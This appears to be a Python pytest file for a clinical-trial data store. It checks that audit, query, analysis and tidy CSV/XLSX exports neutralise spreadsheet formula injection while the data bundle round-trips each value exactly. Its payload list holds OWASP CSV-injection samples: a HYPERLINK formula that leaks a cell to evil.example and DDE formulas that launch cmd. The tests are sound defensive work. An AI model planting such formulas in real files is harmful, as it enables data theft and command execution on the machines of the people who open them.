"""CSV injection: text typed as a spreadsheet formula, in every text field that reaches a
file people open, comes out inert (a leading quote, OWASP "CSV Injection"); the bundle,
which is also read by machines, keeps every value exactly through export and import.

Payloads from OWASP's page: ``=``, ``+``, ``-`` and ``@`` at the start, a tab, a
carriage return. They go into an adverse event's term and MedDRA preferred term, a
concomitant medication and a query's text, then out through the audit trail CSV, the query CSV, the
analysis dataset CSVs, the tidy CSV and XLSX, and the API's export ZIP.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from pustula.store import Store, export_bundle, import_bundle
from pustula.store.accounts.users import issue_api_token
from pustula.store.services.clinical import add_subject_record
from pustula.store.services.monitoring import raise_query
from tests.store.helpers import dump_tables

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: it starts with a trigger and is not a number."""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def seeded(web_store: Store) -> list[str]:
    """Every payload in a text field of S05's casebook, a query and a reason."""
    seen = []
    for i, payload in enumerate(PAYLOADS):
        ae = add_subject_record(web_store, "coder", "ae", "S05", {
            "term": payload, "meddra_pt": payload, "start_date": date(2024, 6, 1 + i),
            "grade": 1, "relatedness": "unlikely", "action_taken": "none",
            "outcome": "recovered", "end_date": date(2024, 6, 20)})  # fmt: skip
        raise_query(web_store, "monitor", "S05", table="adverse_event", record_id=ae.id,
                    field="term", text=payload)  # fmt: skip
        seen.append(payload)
    add_subject_record(
        web_store,
        "coder",
        "cm",
        "S05",
        {"drug": PAYLOADS[0], "indication": PAYLOADS[1], "dose": PAYLOADS[2]},
    )
    return seen


def test_every_people_facing_csv_makes_formulas_inert(
    seeded: list[str], login: Callable[[str], TestClient], app: FastAPI, web_store: Store
) -> None:
    monitor = login("monitor")
    statistician = login("statistician")
    files = {
        "audit.csv": monitor.get("/audit.csv").text,
        "queries.csv": monitor.get("/queries.csv").text,
        "adsl.csv": statistician.get("/downloads/adsl.csv").text,
        "adqs.csv": statistician.get("/downloads/adqs.csv").text,
    }
    tidy = zipfile.ZipFile(io.BytesIO(statistician.get("/downloads/tidy-csv.zip").content))
    files |= {f"tidy/{n}": tidy.read(n).decode() for n in tidy.namelist() if n.endswith(".csv")}
    for name, text in files.items():
        assert [c for c in _cells(text) if _dangerous(c)] == [], name
    # the payloads are there, made inert, not lost
    assert any(PAYLOADS[0] in c for c in _cells(files["audit.csv"]))
    queries = _cells(files["queries.csv"])
    assert "'" + PAYLOADS[1] in queries and "'" + PAYLOADS[3] in queries
    with web_store.transaction(user="admin", reason="token for the test") as tx:
        token = issue_api_token(tx, "statistician")
    api = TestClient(app, headers={"Authorization": f"Bearer {token}"})
    bundle = zipfile.ZipFile(io.BytesIO(api.get("/api/v1/export.zip").content))
    for name in bundle.namelist():
        if name.endswith(".csv"):
            text = bundle.read(name).decode()
            assert [c for c in _cells(text) if _dangerous(c)] == [], name


def test_tidy_xlsx_holds_text_not_formulas(
    seeded: list[str], login: Callable[[str], TestClient]
) -> None:
    from openpyxl import load_workbook

    archive = zipfile.ZipFile(io.BytesIO(login("statistician").get(
        "/downloads/tidy-xlsx.zip").content))  # fmt: skip
    name = next(n for n in archive.namelist() if n.endswith(".xlsx"))
    book = load_workbook(io.BytesIO(archive.read(name)))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds  # no cell is a formula


def test_the_bundle_gives_back_every_payload_exactly(
    seeded: list[str], web_store: Store, tmp_path: Path
) -> None:
    export_bundle(web_store, tmp_path / "bundle")
    text = (tmp_path / "bundle" / "adverse_event.csv").read_text()
    assert [c for c in _cells(text) if _dangerous(c)] == []
    target = Store.open(f"sqlite:///{tmp_path / 'target.sqlite3'}")
    target.create_schema()
    import_bundle(target, tmp_path / "bundle", user="u", reason="round trip")
    leave = ("app_user", "study_role", "web_session", "login_failure", "api_token", "user_site")
    assert dump_tables(target, leave_out=leave) == dump_tables(web_store, leave_out=leave)
    with target.engine.connect() as connection:
        from sqlalchemy import text as sql

        terms = set(connection.scalars(sql("SELECT term FROM adverse_event")))
    # byte for byte, the quote removed again (the store trims a leading tab or return)
    assert set(PAYLOADS[:4]) <= terms and "=1+1" in terms
